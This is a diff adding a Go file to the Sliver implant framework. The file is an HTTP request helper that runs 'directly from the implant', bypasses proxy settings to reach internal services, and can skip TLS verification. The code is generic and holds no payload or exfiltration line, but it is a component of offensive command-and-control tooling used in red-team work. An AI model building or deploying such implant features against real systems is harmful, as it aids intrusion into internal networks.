@@ -0,0 +1,171 @@
+package curl
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/tls"
+	"errors"
+	"io"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"net/url"
+	"sort"
+	"strings"
+	"time"
+)
+
+const (
+	// DefaultTimeout - Used when a request does not set a timeout
+	DefaultTimeout = 30 * time.Second
+
+	maxRedirects = 10
+)
+
+// Header - A single header, requests may repeat a name
+type Header struct {
+	Name  string
+	Value string
+}
+
+// Options - The request to issue, zero values use the defaults
+type Options struct {
+	URL             string
+	Method          string
+	Headers         []Header
+	Body            []byte
+	Insecure        bool
+	FollowRedirects bool
+	MaxBodySize     int64
+	Timeout         time.Duration
+}
+
+// Result - What came back, the body is cut at MaxBodySize
+type Result struct {
+	URL           string
+	StatusCode    int
+	Status        string
+	Proto         string
+	Headers       []Header
+	Body          []byte
+	Truncated     bool
+	ContentLength int64
+}
+
+// Do - Issue the request directly from the implant, the system proxy
+// settings are ignored since the targets are usually internal services
+func Do(options Options) (*Result, error) {
+	target, err := url.Parse(options.URL)
+	if err != nil {
+		return nil, err
+	}
+	if target.Scheme != "http" && target.Scheme != "https" {
+		return nil, errors.New("unsupported scheme, use http or https")
+	}
+	method := strings.ToUpper(options.Method)
+	if method == "" {
+		method = http.MethodGet
+	}
+	timeout := options.Timeout
+	if timeout <= 0 {
+		timeout = DefaultTimeout
+	}
+
+	var body io.Reader
+	if 0 < len(options.Body) {
+		body = bytes.NewReader(options.Body)
+	}
+	req, err := http.NewRequest(method, target.String(), body)
+	if err != nil {
+		return nil, err
+	}
+	for _, header := range options.Headers {
+		if strings.EqualFold(header.Name, "Host") {
+			req.Host = header.Value
+			continue
+		}
+		req.Header.Add(header.Name, header.Value)
+	}
+
+	client := &http.Client{
+		Timeout: timeout,
+		Transport: &http.Transport{
+			Proxy: nil,
+			DialContext: (&net.Dialer{
+				Timeout: timeout,
+			}).DialContext,
+			TLSClientConfig: &tls.Config{
+				InsecureSkipVerify: options.Insecure,
+			},
+			TLSHandshakeTimeout: timeout,
+			DisableKeepAlives:   true,
+		},
+		CheckRedirect: func(req *http.Request, via []*http.Request) error {
+			if !options.FollowRedirects {
+				return http.ErrUseLastResponse
+			}
+			if maxRedirects <= len(via) {
+				return errors.New("stopped after too many redirects")
+			}
+			return nil
+		},
+	}
+	resp, err := client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+
+	result := &Result{
+		URL:           resp.Request.URL.String(),
+		StatusCode:    resp.StatusCode,
+		Status:        resp.Status,
+		Proto:         resp.Proto,
+		Headers:       headers(resp.Header),
+		ContentLength: resp.ContentLength,
+	}
+	var reader io.Reader = resp.Body
+	if 0 < options.MaxBodySize {
+		// Read one extra byte to tell a body of exactly MaxBodySize apart
+		// from a longer one
+		reader = io.LimitReader(resp.Body, options.MaxBodySize+1)
+	}
+	result.Body, err = ioutil.ReadAll(reader)
+	if 0 < options.MaxBodySize && options.MaxBodySize < int64(len(result.Body)) {
+		result.Body = result.Body[:options.MaxBodySize]
+		result.Truncated = true
+	}
+	return result, err
+}
+
+func headers(header http.Header) []Header {
+	names := make([]string, 0, len(header))
+	for name := range header {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	result := []Header{}
+	for _, name := range names {
+		for _, value := range header[name] {
+			result = append(result, Header{Name: name, Value: value})
+		}
+	}
+	return result
+}